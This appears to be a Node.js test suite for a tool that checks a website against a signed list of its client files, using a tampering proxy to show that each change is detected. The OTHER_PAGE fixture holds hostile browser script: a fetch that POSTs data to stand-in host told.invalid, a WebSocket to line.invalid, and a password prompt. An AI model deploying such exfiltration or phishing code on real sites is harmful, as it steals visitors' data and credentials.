// Comparing a site with the client that the root keys signed: the real intake, which serves the real client, and everything that is not it. What
// stands between it and its visitors here changes one thing at each address, so that one run of the command has to name them all.
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { cpSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import { brotliCompressSync, deflateSync } from "node:zlib";
import { SignedList } from "../site/list.mjs";
import { contract } from "./lib/contract.mjs";
import { deploy, prepared } from "./lib/deployment.mjs";
import { countedLine } from "./lib/line.mjs";
import { startMeddler } from "./lib/meddler.mjs";
import { signed, state, statement } from "./lib/statement.mjs";
import { Authority } from "./lib/tls.mjs";
import { all } from "./lib/words.mjs";

/** The browser to go to sites with. */
const SHELL = process.env.LAKZEGEL_CHROMIUM_SHELL ?? process.env.LAKZEGEL_CHROMIUM ?? "/usr/bin/chromium";
const SITE = fileURLToPath(new URL("../site.mjs", import.meta.url));

let deployment;

before(async () => (deployment = await deploy()));
after(() => deployment?.end());

/** Runs the command against a site, with more `options`; `authority` is whom it trusts besides those that Node knows. */
const run = (note, site, { options = [], authority } = {}) =>
  new Promise((done) => {
    const env = { ...process.env, ...(authority && { NODE_EXTRA_CA_CERTS: authority.file }) };
    execFile(process.execPath, [SITE, site, note, deployment.rootKeys, ...options], { env, timeout: 600_000 }, (error, said, refused) => {
      done({ code: error?.code ?? 0, said, refused });
    });
  });

/** The same after the office of `of` has stated that this list is the newest. */
async function compare(note, site = deployment.url, { of = deployment, ...settings } = {}) {
  await state(of, readFileSync(note, "utf8"));
  return run(note, site, settings);
}

/** The lines that the command refuses a site with. */
const linesOf = (refused) => refused.trimEnd().split("\n").slice(1).map((line) => line.trim());

/** The list of the real client, signed once. */
let good;
const goodList = () => (good ??= listOf(prepared.client, "the-list.txt"));

/** The languages of most comparisons. */
const FEW = ["nl", "en"];

/** A copy of the real client with only these. */
function smallClient(name) {
  const client = deployment.path(name);
  const isElse = (file) => /[/]strings[/]/.test(file) && !FEW.some((language) => file.includes(`/strings/${language}`));
  cpSync(prepared.client, client, { recursive: true, filter: (file) => !isElse(file) });
  return client;
}

/**
 * Its list, signed once. A site that serves more than is in a list is an honest one; with fewer languages each page is asked for less than half as often,
 * where it makes no difference who asks.
 */
let small;
const smallList = () => (small ??= listOf(smallClient("small"), "small-list.txt"));

/**
 * Runs the command against the intake behind somebody who changes answers. `changes` are, for an address each: what is done to its answers, and
 * what the command is to say of it, the beginning of each line. Asserts that it says that, and nothing of any other address. `always` is done to
 * every answer, and `besides` is what else is said, in full. `list` is what is compared with.
 */
async function findsOut(changes, { always = () => {}, besides = [], list = smallList, ...settings } = {}) {
  const meddle = (answer, request, response) => {
    always(answer, request, response);
    const [path] = request.url.split("?");
    changes[path]?.[0](answer, request, response);
  };
  const meddler = await startMeddler(deployment.url, meddle, settings.authority);
  const { code, refused } = await compare(await list(), meddler.url, settings);
  await meddler.close();
  const lines = linesOf(refused);
  const expected = Object.entries(changes).flatMap(([path, [, ...said]]) => said.map((what) => `${path}: ${what}`));
  for (const line of [...expected, ...besides]) assert.ok(lines.some((found) => found.startsWith(line)), `not said: ${line}\n${refused}`);
  for (const line of lines) assert.ok([...expected, ...besides].some((known) => line.startsWith(known)), `said besides: ${line}`);
  assert.equal(code, 1);
}

/** Has an answer say this instead, as it is. */
const says = (answer, text) => (answer.set("content-encoding"), (answer.body = Buffer.from(text)));

/** Gives each change an address of its own, from `addresses`. */
const spread = (changes, addresses) => {
  assert.ok(changes.length <= addresses.length, "there are enough addresses");
  return Object.fromEntries(changes.map((change, index) => [addresses[index], change]));
};

/** The page's addresses, and those of all files. */
const pages = () => [...contract.steps, ...contract.steps.map((step) => contract.kiosk + step.replace(/\/$/, ""))];
const addressesOf = async () => readFileSync(await smallList(), "utf8").match(/(?<=^file [0-9a-f]{64} )\S+$/gm);

/** The list of a client's files, signed by `roots`. */
async function listOf(client, name, roots = ["root-1", "root-3"]) {
  const note = deployment.path(name);
  await deployment.office("client", "draft", "--client", client, "--root-keys", deployment.rootKeys, "--version", "of the tests", "--out", note);
  for (const root of roots) await deployment.office("client", "sign", "--key", `keys/${root}.key`, "--note", note);
  return note;
}

test("a site that serves the signed client is told so, every file and every step of it", async () => {
  const line = await countedLine(deployment.url);
  const { code, said, refused } = await compare(await listOf(prepared.client, "good.txt"), line.url);
  await line.close();
  assert.deepEqual([code, refused], [0, ""]);
  const pages = [...contract.steps, ...contract.steps.map((step) => contract.kiosk + step.replace(/\/$/, "")), contract.kiosk + contract.ended];
  const asked = new Set(line.seen.requests.filter((path) => !/[.?]|^\/v1\/|[0-9a-f]{18}$/.test(path)));
  assert.deepEqual([...asked].toSorted(), pages.toSorted(), "every step is compared");
  const files = readdirSync(prepared.client, { recursive: true, withFileTypes: true });
  const count = files.filter((file) => file.isFile() && !/\.(br|gz)$/.test(file.name)).length;
  assert.ok(said.includes(`the newest signed client: release 1, of the tests, ${count} files, ${count + pages.length} addresses compared`), said);
});

test("a site that serves one other byte, or lacks a file, is found out", async () => {
  const client = smallClient("client");
  const [module] = readdirSync(client).filter((name) => /^rest\..*\.wasm$/.test(name));
  const bytes = readFileSync(join(client, module));
  bytes[bytes.length >> 1] ^= 1;
  writeFileSync(join(client, module), bytes);
  mkdirSync(join(client, "more"));
  writeFileSync(join(client, "more", "file.js"), "");
  const { code, refused } = await compare(await listOf(client, "other.txt"));
  assert.equal(code, 1);
  assert.ok(refused.includes(`/${module}: other bytes`) && refused.includes("/more/file.js: status 404"), refused);
  assert.equal(refused.trimEnd().split("\n").length, 3, "and nothing else is different");
});

test("a list that is not the root keys' word proves nothing", async () => {
  const good = readFileSync(await listOf(prepared.client, "whole.txt"), "utf8");
  const forged = (name, content) => {
    const file = deployment.path(name);
    writeFileSync(file, content);
    return file;
  };
  for (const [what, note] of [
    ["not a list of a client's files", deployment.manifestFile],
    ["it is not signed by two root keys", await listOf(prepared.client, "one.txt", ["root-2"])],
    ["a false signature", forged("changed.txt", good.replace("of the tests", "of others"))],
    ["not a signed note", forged("empty.txt", "")],
  ]) {
    const { code, refused } = await run(note, deployment.url);
    assert.ok(refused.includes(what), `${what}: ${refused}`);
    assert.equal(code, 1);
  }
});

/** A line's place in a list is as much of its form as its words. */
test("a list of another form than the protocol's, or of another time, proves nothing, whoever signed it", async () => {
  const good = readFileSync(await smallList(), "utf8").split("\n\n")[0] + "\n";
  const [, issued] = good.match(/^issued ([0-9]+)$/m);
  const now = Number(issued);
  const file = deployment.path("of-another-form.txt");
  const rootKeys = readFileSync(deployment.rootKeys, "utf8");
  const byTwo = (text) => signed(deployment, text, ["keys/root-1.key", "keys/root-3.key"]);
  const times = (from, until) => good.replace(/^issued .*\nexpires .*$/m, `issued ${from}\nexpires ${until}`);
  const line = (begin) => good.match(new RegExp(`^${begin} .*\n`, "m"))[0];
  const swapped = (one, other) => good.replace(one, "\0").replace(other, one).replace("\0", other);
  const files = good.match(/^file .*\n/gm);
  const page = files.find((line) => line.endsWith(" /index.html\n"));
  for (const [what, text] of [
    ["the list does not have its release in its place", good.replace(/^(release|issued|expires) .*\n/gm, "")],
    ["the list does not have its release in its place", swapped(line("release"), line("version"))],
    ["the list does not have its issued in its place", swapped(line("issued"), line("expires"))],
    ["the list does not have its version in its place", good.replace(line("version"), "version \n")],
    ["not a number: 01", good.replace("release 1", "release 01")],
    ["not a number: -1", good.replace("release 1", "release -1")],
    ["the list has a number or a time that none can have", good.replace("release 1", `release ${2 ** 32}`)],
    ["the list has a number or a time that none can have", times(now, now)],
    ["the list has a number or a time that none can have", times(now, now + 400 * 86_400 + 1)],
    ["the list has another release than its client", good.replace("release 1", "release 2")],
    ["the list does not count before ", times(now + 3600, now + 7200)],
    ["the list counted until ", times(now - 3600, now)],
    ["the list of another deployment's client", good.replace(line("origin"), "origin demo.invalid/another\n")],
    ["not a list of a client's files", good.replace("client v1", "client v2")],
    [`not in its place in the list: ${line("page").trim()}`, swapped(line("page"), line("kiosk"))],
    ["not in its place in the list: header ", swapped(line("header"), line("file"))],
    ["not in the order of addresses: ", swapped(files[0], files[1])],
    ["not in the order of addresses: ", good.replace(page, page.repeat(2))],
    ["the list has no page", good.replace(page, "")],
    ["the list has no page", good.replace(/^page .*\n/gm, "")],
    ["the list has another release than its client", good.replace(/^file .* \/release.txt\n/m, "")],
    ["the list says nothing about headers", good.replace(/^header \* .*\n/gm, "")],
    [`not a line of a list: ${line("header").trim()}`, good.replace(line("header"), line("header").repeat(2))],
    ["not a line of a list: witness me", good.replace(line("page"), `${line("page")}witness me\n`)],
    ["not a line of a list: file ", good.replace(page, page.toUpperCase().replace("FILE", "file").replace("INDEX.HTML", "index.html"))],
  ]) {
    assert.notEqual(text, good, what);
    assert.throws(() => new SignedList(byTwo(text), rootKeys), ({ message }) => message.startsWith(what), what);
  }
  writeFileSync(file, byTwo(times(now - 3600, now)));
  assert.deepEqual(await run(file, deployment.url), { code: 1, said: "", refused: `refused: the list counted until ${new Date(now * 1000).toISOString().slice(0, 19)}Z: ask for a newer one\n` });
  // At both edges it counts: from its first second, and for 400 days.
  writeFileSync(file, byTwo(times(now, now + 400 * 86_400)));
  assert.deepEqual(await compare(file).then(({ code, refused }) => [code, refused]), [0, ""]);
});

test("what a site serves for the manifest shows whether list and manifest are the newest, and how old that is", async () => {
  const list = readFileSync(await smallList(), "utf8");
  const rootKeys = readFileSync(deployment.rootKeys, "utf8");
  const read = new SignedList(list, rootKeys);
  const { manifestPath } = contract;
  /** What the command says of these bytes at the manifest's address. */
  const saysOf = (answer) => read.expected(manifestPath).faultsOf(answer);
  const { manifest } = deployment;
  const now = Math.floor(Date.now() / 1000);
  const key = "keys/freshness.key";
  const text = statement(manifest, list);
  const fresh = (change, keys = [key]) => manifest + signed(deployment, change(text), keys);
  const hash = Buffer.alloc(32, 7).toString("base64");
  const [, version] = text.match(/^manifest ([0-9]+)/m);
  const released = (number) => fresh((text) => text.replace(/^client [0-9]+/m, `client ${number}`));
  const other = (name) => fresh((text) => text.replace(new RegExp(`^(${name} [0-9]+) .*$`, "m"), `$1 ${hash}`));
  const at = (time) => fresh((text) => text.replace(/^at .*$/m, `at ${time}`));
  const manifestWith = async (change) => {
    const note = await deployment.manifestWith(change);
    return note + signed(deployment, statement(note, list), [key]);
  };
  for (const [what, answer] of [
    ["the list is not the newest: it is of release 1, and the office states 2", released(2)],
    ["the office does not know this list: it is of release 1, and the office states 0", released(0)],
    ["the list is not the newest: the office states another one of release 1", other("client")],
    ["the office states no list of the client's files", fresh((text) => text.replace(/^client .*\n/m, ""))],
    ["no statement of freshness: nobody can know whether manifest and list are the newest", manifest],
    [`the manifest is not the newest: its version is ${version}, and the office states ${Number(version) + 1}`, fresh((text) => text.replace(/^manifest [0-9]+/m, `manifest ${Number(version) + 1}`))],
    ["the office states another manifest with this version", other("manifest")],
    ["the statement of freshness is older than a day: it was made at ", at(now - 86_400)],
    ["the statement of freshness is of a time to come: ", at(now + 3600)],
    ["the statement of freshness is not signed by the manifest's key for it", fresh((text) => text, ["keys/verdict.key"])],
    ["a false signature by ", fresh((text) => text).replace(/^at .*$/m, `at ${now + 1}`)],
    ["not a signed note", manifest + text],
    ["the statement of freshness reads otherwise than one of this version", fresh((text) => `${text}more 1\n`)],
    ["the statement of freshness reads otherwise than one of this version", fresh((text) => text.replace(/^(manifest .*\n)(client .*\n)/m, "$2$1"))],
    ["not a number: 01", released("01")],
    ["not a hash in the statement of freshness", fresh((text) => text.replace(/^(client [0-9]+) .*$/m, "$1 AAAA"))],
    ["the manifest goes with release 2 of the client and later ones, and the list is of release 1", await manifestWith((text) => text.replace(/^client 1$/m, "client 2"))],
    ["the manifest counted until ", await manifestWith((text) => text.replace(/^issued .*\nexpires .*$/m, `issued ${now - 3600}\nexpires ${now}`))],
    ["the manifest does not count before ", await manifestWith((text) => text.replace(/^issued .*\nexpires .*$/m, `issued ${now + 3600}\nexpires ${now + 7200}`))],
  ]) {
    const lines = saysOf(answer);
    assert.ok(lines.length === 1 && lines[0].startsWith(what), `not said: ${what}\n${lines.join("\n")}`);
  }
  // An older manifest is stated than is served: the office has not seen the new one yet. And a statement is good until it is a day old.
  for (const answer of [fresh((text) => text.replace(/^manifest [0-9]+/m, "manifest 7")), at(now - 86_400 + 600)]) assert.deepEqual(saysOf(answer), []);
  // The command itself says so, of each visitor whom it is told.
  const told = new Map([
    ["Chrome/142", [released(2), "the list is not the newest: it is of release 1, and the office states 2 (1 of 5 visitors: Chromium"]],
    ["Firefox", [manifest, "no statement of freshness: nobody can know whether manifest and list are the newest (1 of 5 visitors: Firefox"]],
    ["iPhone", [at(now - 86_400), "the statement of freshness is older than a day: it was made at "]],
    ["Chrome/74", [fresh((text) => text.replace(/^client .*\n/m, "")), "the office states no list of the client's files"]],
  ]);
  const answersTo = (request) => [...told].find(([who]) => request.headers["user-agent"]?.includes(who))?.[1][0];
  await findsOut({ [manifestPath]: [(answer, request) => answersTo(request) && says(answer, answersTo(request)), ...[...told.values()].map(([, what]) => what)] });
});

/** Headers that make a browser do something, or tell it something, and that an honest site does not send. */
const ACTIVE = [
  ["refresh", "0; url=https://elsewhere.example/"], ["link", "<https://elsewhere.example/x.css>; rel=stylesheet"],
  ["link", "</x.js>; rel=preload; as=script"], ["set-cookie", "who=you; Max-Age=31536000"], ["content-security-policy-report-only", "default-src 'none'"],
  ["reporting-endpoints", 'default="https://elsewhere.example/r"'], ["report-to", '{"group":"r","max_age":1,"endpoints":[]}'],
  ["nel", '{"report_to":"r","max_age":1}'], ["speculation-rules", '"/rules.json"'], ["clear-site-data", '"*"'], ["service-worker-allowed", "/"],
  ["sourcemap", "/x.map"], ["x-sourcemap", "/x.map"], ["alt-svc", 'h3=":443"; ma=86400'], ["accept-ch", "Sec-CH-UA-Model"],
  ["critical-ch", "Sec-CH-UA-Model"], ["document-policy", "force-load-at-top"], ["supports-loading-mode", "credentialed-prerender"],
  ["origin-trial", "AAAA"], ["origin-agent-cluster", "?0"], ["access-control-allow-origin", "*"], ["timing-allow-origin", "*"],
  ["content-disposition", "attachment"], ["content-location", "/elsewhere"], ["cross-origin-embedder-policy", "require-corp"],
  ["x-dns-prefetch-control", "on"], ["x-frame-options", "ALLOWALL"], ["p3p", "CP=x"], ["permissions-policy-report-only", "camera=()"],
  ["use-as-dictionary", 'match="/*"'], ["content-style-type", "text/css"], ["x-what-nobody-knows", "1"], ["content-language", "nl"], ["last-modified", "Mon, 30 Nov 2026 12:00:00 GMT"],
];

test("a site with the same bytes is found out by any header that an honest one does not send", async () => {
  const changes = ACTIVE.map(([name, value]) => [(answer) => answer.add(name, value), `${name}: ${value} is not in the list`]);
  await findsOut(spread(changes, [...(await addressesOf()), ...pages()]));
});

test("a site with the same bytes is found out by any header that is missing, or is another", async () => {
  const weaker = "default-src 'self'; script-src 'self' 'unsafe-inline'";
  const names = ["content-security-policy", "x-content-type-options", "referrer-policy", "cross-origin-opener-policy", "cross-origin-resource-policy", "permissions-policy"];
  const changes = [
    ...[...names, "cache-control", "vary"].map((name) => [(answer) => answer.set(name), `${name} is missing`]),
    ...[...names, "cache-control", "vary"].map((name) => [(answer) => answer.set(name, "same-site"), `${name} is same-site, not `]),
    [(answer) => answer.set("content-security-policy", weaker), `content-security-policy is ${weaker}, not default-src 'none'`],
    // Two policies would hold together; two of others are whatever a browser makes of them.
    ...["content-security-policy", "x-content-type-options"].map((name) => [
      (answer) => answer.add(name, answer.headers.find(([other]) => other === name)[1]), `${name} comes 2 times`,
    ]),
    [(answer) => answer.set("content-type", "text/html"), "content-type is text/html, not"],
  ];
  // Nothing comes along with "not modified", so that the type is seen at the first visit only.
  await findsOut(spread(changes, [...pages(), ...(await addressesOf())]));
});

test("a site is found out by another status, by what comes before and after an answer, and by its bytes", async () => {
  const redirect = (status, to) => [(answer) => ((answer.status = status), answer.set("location", to)), `status ${status}, to ${to}`];
  const status = (status) => [(answer) => (answer.status = status), `status ${status}`];
  const packed = (encoding, bytes) => (answer) => (answer.set("etag"), answer.set("content-encoding", encoding), (answer.body = bytes));
  const changes = [
    redirect(301, "https://elsewhere.example/"), redirect(302, "/elsewhere"), redirect(303, "/"), redirect(307, contract.kiosk), redirect(308, "//elsewhere.example"),
    redirect(201, "/elsewhere"), status(203), status(404), status(500),
    [(answer) => (answer.hints = { link: "</x.css>; rel=preload; as=style" }), "an answer 103 before the answer"],
    [(answer) => (answer.add("trailer", "x-after"), (answer.trailers = { "x-after": "1" })), "x-after comes after the body", "trailer: x-after is not in the list"],
    [(answer) => (answer.set("etag"), answer.set("content-encoding"), (answer.body = Buffer.from("<p>Another page</p>"))), "other bytes"],
    [packed("br", Buffer.from("x")), "bytes that cannot be decompressed", "content-encoding: br was not asked for"],
    [packed("deflate", deflateSync("x")), "bytes that cannot be decompressed", "content-encoding: deflate was not asked for"],
    [(answer) => answer.set("etag", '"a-name-for-you-alone"'), 'etag: "a-name-for-you-alone" is not the name'],
    [(answer) => (answer.isCut = true), "no answer: "],
  ];
  // It would fill a memory: few ask for a file, and each stops where a file would.
  const endless = brotliCompressSync(Buffer.alloc(40 * 1024 * 1024));
  const [file] = await addressesOf();
  const kiosks = [(answer) => answer.set("kiosk-idle-minutes", "3"), "kiosk-idle-minutes: 3 is for kiosks only"];
  await findsOut({ ...spread(changes, pages()), "/robots.txt": kiosks, [file]: [packed("br", endless), "bytes that cannot be decompressed", "content-encoding: br was not asked for"] });
});

test("a site is found out that is honest with most visitors", async () => {
  const to = (matches) => [(answer, request) => matches(request.headers, request.url) && answer.set("link", "</x.css>; rel=stylesheet"), "link: "];
  const changes = [
    to((headers) => headers["user-agent"]?.includes("Firefox")),
    to((headers) => headers["user-agent"]?.includes("iPhone") && headers["accept-language"]?.startsWith("tr")),
    to((headers) => headers["user-agent"] === undefined),
    to((headers) => headers["sec-ch-ua"] !== undefined),
    ...[...all.map(({ lang }) => lang), "de"].map((language) => to((headers) => headers["accept-language"]?.startsWith(language))),
    to((headers) => headers["sec-fetch-mode"] === "navigate"),
    to((headers) => headers["sec-fetch-site"] === "cross-site"),
    to((headers) => headers["accept-encoding"] && !headers["accept-encoding"].includes("br")),
    to((headers) => !headers["accept-encoding"]),
    to((headers) => headers["if-none-match"] !== undefined),
    to((headers, url) => url.includes("code=")),
  ];
  const files = { "/service-worker.js": to((headers) => headers["service-worker"] === "script"), [contract.manifestPath]: to((headers) => headers["sec-fetch-dest"] === "empty") };
  await findsOut({ ...spread(changes, pages()), ...files }, { list: goodList });
});

test("a site is found out by what it answers where nothing is, and by a manifest that is nobody's", async () => {
  const met = [];
  const always = (answer, request) => {
    if (answer.status !== 404) return;
    met.push(request.url);
    if (request.url.startsWith(contract.kiosk)) [answer.status, answer.body] = [200, Buffer.from("A page of another one's")];
    else answer.set("content-security-policy");
  };
  const changed = { [contract.manifestPath]: [(answer) => says(answer, "lakzegel manifest v1\n"), "not a signed note"] };
  const meddler = await startMeddler(deployment.url, (answer, request) => (always(answer, request), changed[request.url]?.[0](answer)));
  const { code, refused } = await compare(await smallList(), meddler.url);
  await meddler.close();
  const lines = linesOf(refused);
  const nowhere = [...new Set(met)];
  assert.equal(nowhere.length, 3, "in three folders");
  for (const path of nowhere) {
    const fault = path.startsWith(contract.kiosk) ? "status 200" : "content-security-policy is missing";
    assert.ok(lines.includes(`${path}: ${fault}`), refused);
  }
  assert.ok(lines.includes(`${contract.manifestPath}: not a signed note`), refused);
  assert.deepEqual([lines.length, code], [4, 1], refused);
});

/** What an honest operator's proxy adds. */
const HONEST = [["server", "nginx/1.22.1"], ["via", "1.1 gateway"], ["age", "0"]];
const HSTS = "max-age=63072000; includeSubDomains; preload";

/**
 * What the command says of the site behind an honest proxy, compared with `list`. With `authority` it speaks TLS, by HTTP/1.1 and HTTP/2.
 */
async function compareBehindProxy(options, list, authority) {
  let asked = 0;
  const meddler = await startMeddler(deployment.url, (answer, request, response) => {
    // Servers end a line after a number of questions: whoever has more begins another.
    if ((asked += 1) % 100 === 0 && request.httpVersionMajor === 2) response.stream.session.close();
    HONEST.forEach(([name, value]) => answer.add(name, value));
    if (authority) answer.set("strict-transport-security", HSTS);
  }, authority);
  const outcome = await compare(await list(), meddler.url, { authority, options });
  await meddler.close();
  return outcome;
}

/** The same without TLS, by a browser as well, which gets a copy of every file by the worker: compared once. */
let honest;
const honestOutcome = () => (honest ??= compareBehindProxy(["--browser", SHELL], goodList));

test("what an honest proxy adds changes nothing, by HTTP/1.1 and by HTTP/2", async () => {
  const authority = new Authority();
  for (const { code, refused, said } of [await honestOutcome(), await compareBehindProxy([], smallList, authority)]) {
    assert.deepEqual([code, refused], [0, ""]);
    assert.match(said, /compared by \d+ questions/);
  }
  authority.end();
});

test("over TLS a site is found out that does not keep browsers there, or lies by HTTP/2 alone", async () => {
  const authority = new Authority();
  const hsts = (value) => [(answer) => answer.set("strict-transport-security", value), value === undefined ? "strict-transport-security is missing" : `strict-transport-security: ${value} does not keep`];
  const byHttp2 = (act) => (answer, request, response) => request.httpVersionMajor === 2 && act(answer, response);
  await findsOut(
    {
      ...spread([hsts(), hsts("max-age=0"), hsts("max-age=31535999"), hsts("includeSubDomains"), hsts(`${HSTS}; more`)], pages()),
      "/status": [byHttp2((answer) => answer.add("refresh", "0")), "refresh: 0 is not in the list"],
      "/check": [byHttp2((answer) => answer.add("content-security-policy", "default-src *")), "content-security-policy comes 2 times", "content-security-policy is default-src *, not"],
      "/outbox": [byHttp2((answer) => (answer.hints = { link: "</x.css>; rel=preload; as=style" })), "an answer 103 before"],
      "/seal.svg": [byHttp2((answer) => (answer.set("content-encoding"), (answer.body = Buffer.from("<svg/>")))), "other bytes", "etag: "],
      "/robots.txt": [byHttp2((_, response) => response.createPushResponse({ ":path": "/pushed.js" }, (error, pushed) => error ?? pushed.end("1")))],
    },
    { authority, always: (answer) => answer.set("strict-transport-security", HSTS), besides: ["what nobody asked for is pushed"] },
  );
  authority.end();
});

test("a site for kiosks leads there from every other page, and only one that is said to be for them may", async () => {
  const kiosks = await deploy({ settings: { kiosk: true, kiosk_idle_minutes: 7 } });
  const note = await smallList();
  const [said, unsaid] = [await compare(note, kiosks.url, { of: kiosks, options: ["--kiosk"] }), await compare(note, kiosks.url, { of: kiosks })];
  await kiosks.end();
  assert.deepEqual([said.code, said.refused], [0, ""]);
  assert.equal(unsaid.code, 1);
  // People are led there from every address where nothing is, too.
  const led = linesOf(unsaid.refused);
  assert.deepEqual(led.filter((line) => !line.includes(`: status 307, to ${contract.kiosk}`)), []);
  assert.deepEqual(contract.steps.filter((path) => !led.includes(`${path}: status 307, to ${contract.kiosk}`)), []);
  const other = await compare(note, deployment.url, { options: ["--kiosk"] });
  assert.ok(linesOf(other.refused).includes("/: status 200"), other.refused);
});

test("a site is compared only where nobody on the way can change it", async () => {
  const { code, refused } = await compare(await goodList(), "http://brief.example/");
  assert.deepEqual([code, refused], [1, "refused: not https: anybody on the way can change it\n"]);
});

test("an honest site is honest in a real browser, too", async () => {
  const { code, said, refused } = await honestOutcome();
  assert.deepEqual([code, refused], [0, ""]);
  const [, answers] = said.match(/and by (\d+) answers to a browser/) ?? [];
  // In each language the first visit loads the page, what it needs, and the worker's copy of everything.
  assert.ok(answers > all.length * 30, said);
});

/** A page of somebody else's, which does what ours must never do. */
const OTHER_PAGE = `<!doctype html><iframe srcdoc="<p>x"></iframe><script>
new WebSocket("ws://line.invalid/"); fetch("http://told.invalid/", { method: "POST", mode: "no-cors", body: "all" });
fetch("/v1/sent", { method: "POST", body: "all" }).then((answer) => answer.text()); alert("Your password?"); new Function("return 1")();
const stop = new AbortController(); fetch("/v1/endless", { signal: stop.signal }).catch(() => {}); setTimeout(() => stop.abort(), 300);</script>`;
/** A page that leads away while an answer that it asked for is still coming. */
const LED_PAGE = `<!doctype html><link rel="preload" as="fetch" crossorigin href="/v1/endless">`;

test("a site is found out that is honest with everybody but a real browser", async () => {
  const old = statement(deployment.manifest, readFileSync(await smallList(), "utf8")).replace(/^client [0-9]+/m, "client 2");
  const changes = {
    [contract.manifestPath]: [
      (answer) => says(answer, deployment.manifest + signed(deployment, old, ["keys/freshness.key"])), "the list is not the newest: it is of release 1, and the office states 2",
    ],
    "/privileged": [
      (answer) => ((answer.body = Buffer.from(OTHER_PAGE)), answer.set("content-encoding"), answer.set("content-security-policy")),
      "other bytes", "content-security-policy is missing", "runs a script that is not in the list, of http", "runs a script that is not in the list, of nowhere",
      "opens a line of its own to ws://line.invalid/", "asks somebody else: http://told.invalid/", "shows a frame: about:srcdoc", "wants to lead to about:srcdoc", "asks: Your password?",
    ],
    "/identity": [(answer) => ((answer.status = 302), answer.set("location", "https://elsewhere.invalid/")), "status 302, to https://elsewhere.invalid/", "asks somebody else: https://elsewhere.invalid/", "no answer: ", "leads to chrome-error:"],
    "/recipient": [(answer) => answer.add("refresh", "0; url=/status"), "refresh: 0; url=/status is not in the list", "wants to lead to http", "leads to http"],
    "/write": [
      (answer) => ((answer.body = Buffer.from(LED_PAGE)), answer.set("content-encoding"), answer.add("refresh", "0; url=/status")),
      "refresh: 0; url=/status is not in the list", "wants to lead to http", "leads to http", "other bytes",
    ],
    "/v1/endless": [(answer) => ((answer.isEndless = true), answer.set("content-length"), answer.set("content-encoding"), answer.body = Buffer.from("more and more"))],
    "/receipt": [(answer) => (answer.isCutShort = true), "other bytes", "no answer: "],
    "/review": [(answer) => answer.set("content-security-policy", "default-src *"), "content-security-policy is default-src *, not"],
    "/status": [(answer) => answer.add("content-security-policy", "default-src *"), "content-security-policy comes 2 times", "content-security-policy is default-src *, not"],
    "/check": [(answer) => answer.add("set-cookie", "who=you"), "set-cookie: who=you is not in the list"],
    "/outbox": [(answer) => answer.add("content-disposition", "attachment; filename=x.html"), "content-disposition: ", "gives a file to keep: ", "no answer: "],
    "/service-worker.js": [(answer) => ((answer.body = Buffer.from("fetch(\"/v1/seen\")")), answer.set("content-encoding"), answer.add("service-worker-allowed", "/")), "service-worker-allowed: / is not in the list"],
  };
  // The command itself says that it is another Chromium, on another system.
  const isReal = (request) => request.headers["user-agent"]?.includes("(X11; Linux x86_64) AppleWebKit");
  for (const change of Object.values(changes)) {
    const [act] = change;
    change[0] = (answer, request) => isReal(request) && act(answer);
  }
  await findsOut(changes, { options: ["--browser", SHELL], besides: ["/: runs a script that is not in the list, of http", "line.invalid:80: is called by the browser", "/v1/sent: is sent something, by POST"] });
});
